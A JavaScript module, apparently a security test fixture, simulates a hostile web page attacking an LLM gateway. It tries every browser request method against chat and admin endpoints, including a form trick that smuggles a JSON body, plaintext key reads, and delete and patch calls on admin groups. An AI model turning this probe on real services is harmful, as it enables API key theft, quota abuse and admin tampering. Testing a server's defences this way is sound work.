// What a hostile page tries. It runs inside the page, so it uses nothing from outside itself.

/** Tries every way a page has to send a request to `target`; tells what it could read by each. */
export async function attack({ target, key, keyId }) {
  const PATIENCE_MS = 3000;
  const withKey = key ? `?key=${encodeURIComponent(key)}` : '';
  const hello = [{ role: 'user', content: 'spend' }];
  const parts = [{ role: 'user', parts: [{ text: 'spend' }] }];
  const posts = [
    [`/v1/chat/completions${withKey}`, { model: 'poet', messages: hello }],
    [`/v1/messages${withKey}`, { model: 'poet', max_tokens: 9, messages: hello }],
    [`/v1/responses${withKey}`, { model: 'poet', input: 'spend' }],
    [`/v1beta/models/poet:generateContent${withKey}`, { contents: parts }],
    ['/admin/llm/groups', { group_id: 'pwned', name: 'pwned' }],
    ['/admin/llm/groups/default/keys', { name: 'pwned' }],
    ['/admin/login-link', {}],
    ['/admin/logout', {}],
  ].map(([path, body]) => [path, JSON.stringify(body)]);
  const gets = [
    `/v1/generations/job${withKey}`,
    `/v1/models${withKey}`,
    '/admin/llm/groups',
    '/admin/session',
    `/admin/llm/keys/${keyId}/plaintext`,
    '/admin/llm/logs',
    '/metrics',
  ];
  const keyHeaders = key ? { authorization: `Bearer ${key}`, 'x-api-key': key } : {};
  const attempts = [];

  /** Notes what an attempt read; one that throws or takes too long has read nothing. */
  async function attempt(way, path, work) {
    const late = new Promise((done) => setTimeout(done, PATIENCE_MS, null));
    let read = null;
    try {
      read = await Promise.race([work(), late]);
    } catch {
      // Refused by the browser.
    }
    attempts.push({ way, path, read: read || null });
  }

  const fetched = async (path, init) => {
    const answer = await fetch(target + path, init);
    if (!answer.headers.get('content-type')?.startsWith('text/event-stream')) return answer.text();
    const first = await answer.body.getReader().read();
    return new TextDecoder().decode(first.value);
  };

  const asked = (method, path, headers, body) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open(method, target + path);
      request.withCredentials = true;
      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
      request.onload = () => done(request.responseText);
      request.onerror = () => done(null);
      request.send(body);
    });

  /** Adds an element and waits until it has loaded something, or not. */
  const loaded = (tag, fields) =>
    new Promise((done) => {
      const element = Object.assign(document.createElement(tag), fields);
      element.onload = element.onloadeddata = () => done(element);
      element.onerror = () => done(null);
      document.body.append(element);
    });

  const inside = (view) => {
    const text = view?.document?.body?.innerText;
    return view?.location?.href === 'about:blank' ? null : text;
  };

  const framed = async (path) => inside((await loaded('iframe', { src: target + path }))?.contentWindow);

  const shown = async (tag, fields) => ((await loaded(tag, fields)) ? `<${tag}> loaded` : null);

  /** A form's body is JSON when its one field is cut in the right place. */
  async function formed(path, body, enctype, name) {
    const frame = document.createElement('iframe');
    frame.name = name;
    document.body.append(frame);
    const form = Object.assign(document.createElement('form'), { method: 'POST', action: target + path, enctype, target: name });
    const field = document.createElement('input');
    field.name = `${body.slice(0, -1)}${body === '{}' ? '' : ','}"x":"`;
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    const arrived = new Promise((done) => (frame.onload = done));
    form.submit();
    await arrived;
    return inside(frame.contentWindow);
  }

  const opened = (way, address) =>
    new Promise((done) => {
      const line = way === 'socket' ? new WebSocket(address.replace(/^http/, 'ws')) : new EventSource(address, { withCredentials: true });
      const end = (read) => {
        line.close();
        done(read);
      };
      line.onopen = () => end(`${way} opened`);
      line.onmessage = ({ data }) => end(data);
      line.onerror = () => end(null);
    });

  /** A window of its own: read it, talk to it, listen to it. */
  async function windowed(path) {
    const heard = new Promise((done) => addEventListener('message', ({ data }) => done(JSON.stringify(data)), { once: true }));
    const view = open(target + path);
    if (!view) return null;
    const settled = new Promise((done) => setTimeout(done, 400, null));
    const tick = setInterval(() => view.postMessage({ type: 'session', key: 'give' }, '*'), 50);
    const answer = await Promise.race([heard, settled]);
    clearInterval(tick);
    try {
      return answer ?? inside(view);
    } finally {
      view.close();
    }
  }

  const works = [];
  const go = (...one) => works.push(attempt(...one));
  posts.forEach(([path, body], number) => {
    const json = { 'content-type': 'application/json', ...(path.startsWith('/v1') ? keyHeaders : {}) };
    const plain = { 'content-type': 'text/plain' };
    const all = { method: 'POST', credentials: 'include', body };
    go('fetch', path, () => fetched(path, { ...all, headers: json }));
    go('fetch of text', path, () => fetched(path, { ...all, headers: plain }));
    go('fetch without cors', path, () => fetched(path, { ...all, mode: 'no-cors', headers: plain }));
    go('fetch kept alive', path, () => fetched(path, { ...all, mode: 'no-cors', keepalive: true }));
    go('XHR', path, () => asked('POST', path, json, body));
    go('XHR of text', path, () => asked('POST', path, plain, body));
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      go(`form of ${enctype}`, path, () => formed(path, body, enctype, `f${number}${enctype}${target}`));
    }
    for (const type of ['text/plain', 'application/json']) {
      go(`beacon of ${type}`, path, async () => void navigator.sendBeacon(target + path, new Blob([body], { type })));
    }
  });
  for (const path of gets) {
    const src = target + path;
    const headers = path.startsWith('/v1') ? keyHeaders : { 'x-admin-token': '' };
    go('fetch', path, () => fetched(path, { credentials: 'include', headers }));
    go('plain fetch', path, () => fetched(path, { credentials: 'include' }));
    go('fetch without cors', path, () => fetched(path, { mode: 'no-cors', credentials: 'include' }));
    go('XHR', path, () => asked('GET', path, {}));
    go('image', path, () => shown('img', { src }));
    go('script', path, () => shown('script', { src }));
    go('module', path, () => import(src).then((module) => JSON.stringify(Object.keys(module))));
    go('style', path, () => shown('link', { rel: 'stylesheet', href: src }));
    go('video', path, () => shown('video', { src, preload: 'auto' }));
    go('frame', path, () => framed(path));
    go('object', path, () => shown('object', { data: src, type: 'image/png' }));
    go('events', path, () => opened('events', src));
    go('socket', path, () => opened('socket', src));
  }
  go('DELETE', '/admin/llm/groups/victim', () => fetched('/admin/llm/groups/victim', { method: 'DELETE', credentials: 'include' }));
  go('PATCH', '/admin/llm/groups/victim', () => asked('PATCH', '/admin/llm/groups/victim', { 'content-type': 'application/json' }, '{"note":"pwned"}'));
  for (const path of ['/admin/events', '/v1/responses']) {
    for (const way of ['events', 'socket']) go(way, path, () => opened(way, target + path + withKey));
  }
  await Promise.all(works);
  for (const path of ['/', `/v1/generations/job${withKey}`, `/v1/models${withKey}`, '/admin/llm/groups', '/admin/session']) {
    await attempt('window', path, () => windowed(path));
  }
  return attempts;
}
